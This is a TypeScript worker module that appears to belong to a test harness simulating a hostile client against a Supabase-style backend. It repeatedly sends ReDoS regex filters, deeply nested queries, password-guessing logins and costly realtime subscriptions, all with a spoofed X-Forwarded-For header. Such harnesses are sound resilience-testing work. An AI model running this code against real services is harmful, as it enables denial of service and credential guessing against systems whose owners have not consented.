// Who does harm in the scenario 'hostile' and beside chaos, in a process and at an address of their own. Told by its
// parent what to do, goes on until it is told to stop, and answers with how often it asked since.
import { setTimeout as sleep } from 'node:timers/promises';
import WebSocket from 'ws';

export interface AttackOrder {
  readonly url: string;
  readonly anonKey: string;
  /** Of the account that does harm; without one, a visitor does. */
  readonly token?: string;
}

const AT_ONCE = 10;
const SOCKETS = 20;
const TIMEOUT_MS = 20_000;
/** As a proxy on this machine would tell it: servers they are let loose on have it in TRUSTED_PROXIES. */
const FROM = { 'x-forwarded-for': '203.0.113.66' };

export interface AttackReport {
  readonly asked: number;
}

let round = 0;
let asked = 0;
let running: Promise<void>[] = [];

process.on('disconnect', () => process.exit());
process.on('message', (message: AttackOrder | 'stop') => {
  round++;
  if (message === 'stop') void report();
  else if (message.token) withAccount(message, message.token);
  else asVisitor(message);
});

/** Once the last request is answered, so that nothing of theirs goes on behind it. */
async function report(): Promise<void> {
  await Promise.all(running);
  process.send?.({ asked } satisfies AttackReport);
  asked = 0;
  running = [];
}

function withAccount(order: AttackOrder, token: string): void {
  const embedded = 'id,employees(time_entries(employees(time_entries(id))))';
  const paths = [
    `/rest/v1/time_entries?select=${embedded}`,
    `/rest/v1/time_entries?select=*&notes=match.(a%2B)%2B%24&order=notes,id`,
    '/rest/v1/audit_events?select=*&order=reason,hash',
  ];
  for (let index = 0; index < AT_ONCE; index++) {
    const headers = { authorization: `Bearer ${token}` };
    begin(() => send(order, paths[index % paths.length] ?? '', { headers }));
  }
}

function asVisitor(order: AttackOrder): void {
  const guess = () =>
    send(order, '/auth/v1/token?grant_type=password', {
      method: 'POST',
      body: JSON.stringify({ email: `somebody-${asked}@example.com`, password: 'a guess' }),
    });
  for (let index = 0; index < AT_ONCE; index++) begin(guess);
  for (let index = 0; index < SOCKETS; index++) begin(() => listen(order));
}

function begin(act: () => Promise<unknown>): void {
  running.push(repeat(act));
}

async function repeat(act: () => Promise<unknown>): Promise<void> {
  // A server that is gone is asked again after a while, not as fast as this machine can.
  for (const started = round; round === started; asked++) await act().catch(() => sleep(100));
}

async function send({ url, anonKey }: AttackOrder, path: string, init: RequestInit) {
  const own = { apikey: anonKey, 'content-type': 'application/json', ...FROM };
  const headers = { ...own, ...init.headers };
  const signal = AbortSignal.timeout(TIMEOUT_MS);
  const answer = await fetch(url + path, { ...init, headers, signal });
  await answer.arrayBuffer();
}

/** A socket that asks for twenty costly patterns, and hangs up when it is answered. */
function listen({ url, anonKey }: AttackOrder): Promise<void> {
  const postgres_changes = Array.from({ length: 20 }, (_, n) => ({
    ...{ event: '*', schema: 'public', table: 'time_entries', filter: `notes=match.(a+)+${n}$` },
  }));
  const join = ['1', '1', 'realtime:harm', 'phx_join', { config: { postgres_changes } }];
  const address = `${url.replace('http', 'ws')}/realtime/v1/websocket?apikey=${anonKey}&vsn=2.0.0`;
  const socket = new WebSocket(address, { headers: FROM, perMessageDeflate: false });
  const patience = setTimeout(() => socket.terminate(), TIMEOUT_MS);
  return new Promise((resolve, reject) => {
    socket.on('open', () => socket.send(JSON.stringify(join)));
    socket.on('message', () => socket.terminate());
    socket.on('error', reject);
    socket.on('close', () => {
      clearTimeout(patience);
      resolve();
    });
  });
}
